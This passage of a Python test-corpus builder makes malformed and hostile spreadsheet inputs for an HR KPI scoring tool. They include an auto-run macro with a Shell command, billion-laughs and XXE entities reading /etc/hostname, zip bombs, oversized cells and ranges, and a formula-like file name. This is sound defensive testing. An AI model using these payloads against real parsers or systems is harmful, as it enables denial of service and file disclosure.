        src = targets_xw(Path(tmp) / "targets_legacy.xlsx", person("E101") + [row("E102", "销售额", "abc", 1, unit="元")])
        made = _soffice_convert(src, "xls", Path(tmp))
        shutil.copy(made, folder / "targets_legacy.xls")


# A stand-in VBA project: the OLE magic and an auto-run macro's source text. kpi-engine
# must treat the part as opaque bytes; nothing may ever interpret it.
VBA_BIN = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 24 + (
    b'Attribute VB_Name = "ThisWorkbook"\r\nSub Workbook_Open()\r\n'
    b'  Shell "cmd /c echo pwned > %TEMP%\\pwned.txt"\r\nEnd Sub\r\n'
) + b"\x00" * 400


@case("xlsm_with_macro")
def _(folder: Path) -> None:
    base(folder)
    raw_xlsx(folder / "targets_macro.xlsm", [RawSheet("目标管理", sheet_xml([HEADER, *person("E101")]))], macro=VBA_BIN)


@case("xltx_template")
def _(folder: Path) -> None:
    """An Excel template left in the drop folder: not an input (outputs.md: .xlsx/.xlsm/.xls)."""
    base(folder)
    wb = Workbook()
    ws = wb.active
    ws.title = "目标管理"
    for r in [HEADER, *person("E101")]:
        ws.append(r)
    wb.template = True
    wb.save(folder / "target_sheet.xltx")


@case("csv_renamed_xlsx")
def _(folder: Path) -> None:
    base(folder)
    lines = [",".join(HEADER)] + [",".join("" if v is None else str(v) for v in r) for r in person("E101")]
    (folder / "targets_csv.xlsx").write_text("\n".join(lines), encoding="utf-8")


@case("zero_byte_file")
def _(folder: Path) -> None:
    base(folder)
    (folder / "targets_empty.xlsx").write_bytes(b"")


@case("truncated_zip")
def _(folder: Path) -> None:
    base(folder)
    whole = (folder / "targets_2026-02.xlsx").read_bytes()
    (folder / "targets_2026-02 (cut).xlsx").write_bytes(whole[: len(whole) // 2])


@case("random_bytes")
def _(folder: Path) -> None:
    base(folder)
    import random

    rng = random.Random(7)
    (folder / "targets_noise.xlsx").write_bytes(bytes(rng.randrange(256) for _ in range(5000)))
    (folder / "targets_noise.xls").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(rng.randrange(256) for _ in range(3000)))
    (folder / "targets_noise.xlsm").write_bytes(b"PK\x03\x04" + bytes(rng.randrange(256) for _ in range(3000)))


def _encrypt(src: Path, dst: Path, password: str = "hr-2026") -> None:
    with open(src, "rb") as fh, open(dst, "wb") as out:
        msoffcrypto.format.ooxml.OOXMLFile(fh).encrypt(password, out)


@case("encrypted_targets")
def _(folder: Path) -> None:
    base(folder)
    with tempfile.TemporaryDirectory() as tmp:
        src = targets_xw(Path(tmp) / "t.xlsx", person("E101"))
        _encrypt(src, folder / "targets_secret.xlsx")


@case("encrypted_assessment_form")
def _(folder: Path) -> None:
    """HR password-protected the form: no scheme, nothing can be scored."""
    base(folder)
    form = folder / "assessment_form.xlsx"
    with tempfile.TemporaryDirectory() as tmp:
        plain = Path(tmp) / "form.xlsx"
        shutil.copy(form, plain)
        _encrypt(plain, form)


@case("structure_protected")
def _(folder: Path) -> None:
    base(folder)
    wb = Workbook()
    ws = wb.active
    ws.title = "目标管理"
    for r in [HEADER, *person("E101")]:
        ws.append(r)
    ws.protection.sheet = True
    ws.protection.password = "hr"
    wb.security = WorkbookProtection(workbookPassword="hr", lockStructure=True)
    wb.save(folder / "targets_protected.xlsx")


@case("lock_file")
def _(folder: Path) -> None:
    base(folder)
    # What Excel leaves while a file is open: the owner's name, padded, 165 bytes.
    owner = "hr.analyst".encode("ascii")
    (folder / "~$targets_2026-01.xlsx").write_bytes(bytes([len(owner)]) + owner.ljust(53, b" ") + b"\x00" * 111)
    # A lock file that happens to be a whole workbook copy is skipped all the same.
    shutil.copy(folder / "targets_2026-02.xlsx", folder / "~$targets_2026-02.xlsx")


BILLION_LAUGHS = (
    '<!DOCTYPE worksheet [\n<!ENTITY lol "lol">\n'
    + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n' for i in range(1, 10))
    + "]>\n"
)


@case("billion_laughs")
def _(folder: Path) -> None:
    base(folder)
    xml = sheet_xml([HEADER, *person("E101")], prolog=BILLION_LAUGHS)
    xml = xml.replace("员工E101", "&lol9;", 1)
    raw_xlsx(folder / "targets_laughs.xlsx", [RawSheet("目标管理", xml)])


SECRET = Path("/etc/hostname")


@case("xxe_external_entity")
def _(folder: Path) -> None:
    """An external entity: the file it names must never reach the result."""
    base(folder)
    prolog = f'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file://{SECRET}">]>\n'
    xml = sheet_xml([HEADER, *person("E101")], prolog=prolog).replace("员工E101", "&xxe;", 1)
    raw_xlsx(folder / "targets_xxe.xlsx", [RawSheet("目标管理", xml)])


BOMB_ROW = b'<row><c t="inlineStr"><is><t>bomb</t></is></c></row>'


def _bomb_stream(write) -> None:
    head = f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{"http://schemas.openxmlformats.org/spreadsheetml/2006/main"}"><sheetData>'
    write(head.encode())
    chunk = BOMB_ROW * (16 * 1024 * 1024 // len(BOMB_ROW))
    for _ in range(BOMB_BYTES // len(chunk)):
        write(chunk)
    write(b"</sheetData></worksheet>")


def _zip_bomb(path: Path) -> Path:
    return raw_xlsx(path, [RawSheet("目标管理", stream=_bomb_stream)], level=9)


@case("zip_bomb")
def _(folder: Path) -> None:
    base(folder)
    _cached(folder / "targets_bomb.xlsx", "zip_bomb.xlsx", _zip_bomb)


def _lying_bomb(path: Path) -> Path:
    """A bomb whose zip entry claims 4 KB: a size check alone does not catch it."""
    # zip64 extras (force_zip64) carry the real size; write this one as plain zip instead.
    mid = 512 * 1024 * 1024
    head = b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    tail = b"</sheetData></worksheet>"
    chunk = BOMB_ROW * (16 * 1024 * 1024 // len(BOMB_ROW))

    def stream(write) -> None:
        write(head)
        for _ in range(mid // len(chunk)):
            write(chunk)
        write(tail)

    raw_xlsx(path, [RawSheet("目标管理", stream=stream)], level=9)
    lie_about_size(path, "xl/worksheets/sheet1.xml", 4096)
    return path


@case("zip_bomb_lying_size")
def _(folder: Path) -> None:
    base(folder)
    _cached(folder / "targets_bomb_small.xlsx", "zip_bomb_lying.xlsx", _lying_bomb)


HUGE_CELL_BYTES = 50_000_000


def huge_text(n_bytes: int, seed: int = 13) -> str:
    """Text of CJK characters drawn from 16 (3 bytes each in UTF-8): compresses about 3:1,
    like a long paste, so the package stays under every zip-bomb ratio."""
    import numpy as np

    codes = np.random.default_rng(seed).integers(0x4E00, 0x4E00 + 16, n_bytes // 3, dtype=np.uint32)
    return codes.astype("<u4").tobytes().decode("utf-32-le")


def _huge_cell(path: Path) -> Path:
    """One 50 MB cell (员工E101's 姓名, B2) in a 15 MB file."""
    xml = sheet_xml([HEADER, *person("E101")]).replace("员工E101", huge_text(HUGE_CELL_BYTES), 1)
    return raw_xlsx(path, [RawSheet("目标管理", xml)], level=1)


@case("huge_cell")
def _(folder: Path) -> None:
    base(folder)
    _cached(folder / "targets_huge_cell.xlsx", "huge_cell.xlsx", _huge_cell)


def _row_limit(path: Path) -> Path:
    """1,048,576 rows on an export sheet, and a 目标管理 sheet whose last row is Excel's last."""

    def stream(write) -> None:
        write(b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
        step = 65536
        for start in range(1, ROW_LIMIT + 1, step):
            write("".join(
                f'<row r="{r}"><c r="A{r}"><v>{r}</v></c><c r="B{r}" t="inlineStr"><is><t>x</t></is></c></row>'
                for r in range(start, min(start + step, ROW_LIMIT + 1))
            ).encode())
        write(b"</sheetData></worksheet>")

    tail = f'<row r="{ROW_LIMIT}"><c r="J{ROW_LIMIT}" t="inlineStr"><is><t>表尾备注</t></is></c></row>'
    targets = sheet_xml([HEADER, *person("E101")], tail_rows=tail)
    return raw_xlsx(path, [RawSheet("目标管理", targets), RawSheet("系统导出", stream=stream)], level=1)


@case("row_limit_sheet")
def _(folder: Path) -> None:
    base(folder)
    _cached(folder / "targets_big_export.xlsx", "row_limit.xlsx", _row_limit)


@case("lying_shared_string_count")
def _(folder: Path) -> None:
    """sharedStrings claims 2^31 strings in a 5 KB file: a reader that preallocates by it dies."""
    import re

    base(folder)
    path = targets_xw(folder / "targets_lying_sst.xlsx", person("E101"))
    patch_member(path, "xl/sharedStrings.xml",
                 lambda b: re.sub(rb'count="\d+" uniqueCount="\d+"', b'count="2147483647" uniqueCount="2147483647"', b))


@case("lying_dimension_and_spans")
def _(folder: Path) -> None:
    """A dimension of the whole grid and rows claiming 16,384 columns, over three real rows."""
    import re

    base(folder)
    path = targets_xw(folder / "targets_lying_dim.xlsx", person("E101"))
    patch_member(path, "xl/worksheets/sheet1.xml",
                 lambda b: re.sub(rb'spans="[^"]*"', b'spans="1:16384"',
                                  re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:XFD1048576"/>', b)))


@case("merge_over_whole_sheet")
def _(folder: Path) -> None:
    """A merged range from C2 to the last cell: filling it densely would need 17 billion cells."""
    base(folder)
    xml = sheet_xml([HEADER, *person("E101")], merges=["C2:XFD1048576"])
    raw_xlsx(folder / "targets_big_merge.xlsx", [RawSheet("目标管理", xml)])


@case("stray_last_cell")
def _(folder: Path) -> None:
    """One stray character in XFD1048576: a dense reader would allocate 17 billion cells."""
    base(folder)
    tail = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>.</t></is></c></row>'
    xml = sheet_xml([HEADER, *person("E101")], tail_rows=tail)
    raw_xlsx(folder / "targets_stray.xlsx", [RawSheet("目标管理", xml)])


@case("own_result_renamed")
def _(folder: Path) -> None:
    """Last month's result, renamed by HR, dropped back into the folder."""
    base(folder)
    with tempfile.TemporaryDirectory() as tmp:
        drop = builders.clean_folder(Path(tmp) / "drop")
        out = Path(tmp) / "r.xlsx"
        done = subprocess.run([sys.executable, "-m", "kpi_engine.cli", "score", str(drop), "-o", str(out)],
                              capture_output=True, text=True, cwd=ROOT, timeout=300)
        if not out.exists():
            raise RuntimeError(f"could not make a result workbook: {done.stdout}{done.stderr}")
        shutil.copy(out, folder / "一月考核.xlsx")


@case("result_resaved_by_libreoffice")
def _(folder: Path) -> None:
    """A result HR opened and saved again in another program: still known by its property."""
    base(folder)
    with tempfile.TemporaryDirectory() as tmp:
        drop = builders.clean_folder(Path(tmp) / "drop")
        out = Path(tmp) / "kpi-results_2026-01_2026-02.xlsx"
        subprocess.run([sys.executable, "-m", "kpi_engine.cli", "score", str(drop), "-o", str(out)],
                       capture_output=True, text=True, cwd=ROOT, timeout=300)
        conv = Path(tmp) / "conv"
        shutil.copy(_soffice_convert(out, "xlsx", conv), folder / "三月结果（已编辑）.xlsx")


# --- .ods and .xlsb (issue 12): read like .xlsx, with the same safety checks ----------
# tests/corpus/ods.py and tests/corpus/xlsb.py write them; tests/data/bad-value.ods is
# LibreOffice's own (tests/data/make_ods_xlsb.py).


@case("ods_file")
def _(folder: Path) -> None:
    base(folder)
    shutil.copy(Path(__file__).resolve().parent.parent / "data" / "bad-value.ods", folder / "targets_calc.ods")


@case("xlsb_file")
def _(folder: Path) -> None:
    from tests.corpus.xlsb import XlsbSheet, write_xlsb
    from tests.data.make_ods_xlsb import bad_value_rows

    base(folder)
    write_xlsb(folder / "targets_binary.xlsb", [XlsbSheet("目标管理", bad_value_rows())])


@case("ods_billion_laughs")
def _(folder: Path) -> None:
    from tests.corpus.ods import ods_bytes, rows_xml

    base(folder)
    xml = rows_xml([HEADER, *person("E101")]).replace("员工E101", "&lol9;", 1)
    (folder / "targets_laughs.ods").write_bytes(ods_bytes({"目标管理": xml}, prolog=BILLION_LAUGHS))


@case("ods_repeat_bomb")
def _(folder: Path) -> None:
    """A few hundred bytes that calamine would expand into 17 billion cells."""
    from tests.corpus.ods import ods_bytes, rows_xml

    base(folder)
    xml = rows_xml([HEADER, *person("E101")]) + (
        '<table:table-row table:number-rows-repeated="1048576"><table:table-cell office:value-type="float" '
        'office:value="1" table:number-columns-repeated="16384"/></table:table-row>')
    (folder / "targets_repeats.ods").write_bytes(ods_bytes({"目标管理": xml}))


@case("xlsb_far_cell")
def _(folder: Path) -> None:
    """BrtWsDim says A1:J4; a cell in column 2^31 follows (calamine allocates the rectangle)."""
    from tests.corpus.xlsb import XlsbSheet, write_xlsb

    base(folder)
    write_xlsb(folder / "targets_far.xlsb", [XlsbSheet("目标管理", [HEADER, *person("E101")],
                                                       cells={(4, 2**31): 1.0}, dim=(0, 3, 0, 9))])


@case("encrypted_ods")
def _(folder: Path) -> None:
    from tests.corpus.ods import rows_xml, write_ods

    base(folder)
    write_ods(folder / "targets_secret.ods", {"目标管理": rows_xml([HEADER, *person("E101")])}, encrypted=True)


@case("result_resaved_as_ods")
def _(folder: Path) -> None:
    """A result HR saved again as .ods in LibreOffice: still known by its property (meta.xml)."""
    base(folder)
    with tempfile.TemporaryDirectory() as tmp:
        drop = builders.clean_folder(Path(tmp) / "drop")
        out = Path(tmp) / "kpi-results_2026-01_2026-02.xlsx"
        subprocess.run([sys.executable, "-m", "kpi_engine.cli", "score", str(drop), "-o", str(out)],
                       capture_output=True, text=True, cwd=ROOT, timeout=300)
        shutil.copy(_soffice_convert(out, "ods", Path(tmp) / "conv"), folder / "三月结果.ods")


@case("non_workbook_files")
def _(folder: Path) -> None:
    base(folder)
    (folder / "readme.txt").write_text("请把表格放在这里", encoding="utf-8")
    (folder / "targets.csv").write_text(",".join(HEADER) + "\n", encoding="utf-8")
    (folder / "photo.png").write_bytes(b"\x89PNG\r\n\x1a\n" + b"\x00" * 100)
    (folder / ".DS_Store").write_bytes(b"\x00\x00\x00\x01Bud1")
    (folder / "归档").mkdir()


@case("template_left_with_examples")
def _(folder: Path) -> None:
    """HR filled the shipped template below its grey example rows and never deleted them."""
    from openpyxl import load_workbook

    base(folder)
    wb = load_workbook(ROOT / "templates" / "target_sheet.xlsx")
    ws = wb["目标管理"]
    for r in person("E101"):
        ws.append(r)
    wb.save(folder / "target_sheet.xlsx")


@case("one_workbook_everything")
def _(folder: Path) -> None:
    """Every sheet in one workbook, with English sheet names — and nothing else in the folder."""
    folder.mkdir(parents=True, exist_ok=True)
    rows = []
    for month in ("2026-01", "2026-02"):
        for pid, name, team, sales, clients, complaints, _ in builders.PEOPLE:
            rows += person(pid, name=name, team=team, month=month, sales=(100000, round(100000 * sales)),
                           clients=(10, clients), complaints=(0, complaints))
    ratings = [builders.RATINGS_HEADER] + [[p[0], "2026-01", "团队协作", "上级", "经理", p[6]] for p in builders.PEOPLE]
    xw_book(folder / "everything.xlsx", {
        "Scheme": builders.SCHEME, "Tiers": builders.TIERS, "Ratings": ratings,
        "Settings": builders.SETTINGS, "Targets": [HEADER, *rows],
    })


@case("formula_like_file_name")
def _(folder: Path) -> None:
    base(folder)
    targets_xw(folder / "=HYPERLINK(1)+cmd.xlsx", person("E101") + [row("E102", "销售额", "abc", 1, unit="元")])


@case("empty_folder")
def _(folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)


@case("only_broken_files")
def _(folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "a.xlsx").write_bytes(b"")
    (folder / "b.xlsx").write_bytes(b"PK\x03\x04broken")
    (folder / "c.xls").write_text("not excel", encoding="utf-8")


@case("targets_only_no_scheme")
def _(folder: Path) -> None:
    base(folder)
    (folder / "assessment_form.xlsx").unlink()


# --- caching of the expensive files --------------------------------------------------------

ROOT = Path(__file__).resolve().parents[2]
CACHE = Path(os.environ.get("KPI_CORPUS_CACHE", Path(tempfile.gettempdir()) / "kpi-engine-corpus-cache"))


def _cached(dest: Path, name: str, make: Callable[[Path], Path]) -> None:
    """Build a big file once per machine (keyed by this module's builder), then copy it."""
    CACHE.mkdir(parents=True, exist_ok=True)
    cached = CACHE / f"{_fingerprint()}-{name}"
    if not cached.exists():
        tmp = cached.with_suffix(".part")
        make(tmp)
        os.replace(tmp, cached)
    shutil.copy(cached, dest)


def _fingerprint() -> str:
    import hashlib

    src = Path(__file__).read_bytes() + Path(__file__).with_name("xl.py").read_bytes()
    return hashlib.sha256(src).hexdigest()[:12]


def build(name: str, folder: Path) -> Path:
    """Build case ``name`` into ``folder`` (created); returns the folder."""
    BUILDERS[name](folder)
    return folder


def main(argv: list[str] | None = None) -> int:
    argv = sys.argv[1:] if argv is None else argv
    if not argv:
        print(__doc__)
        return 2
    out, names = Path(argv[0]), argv[1:] or sorted(BUILDERS)
    for name in names:
        build(name, out / name)
        print(name)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
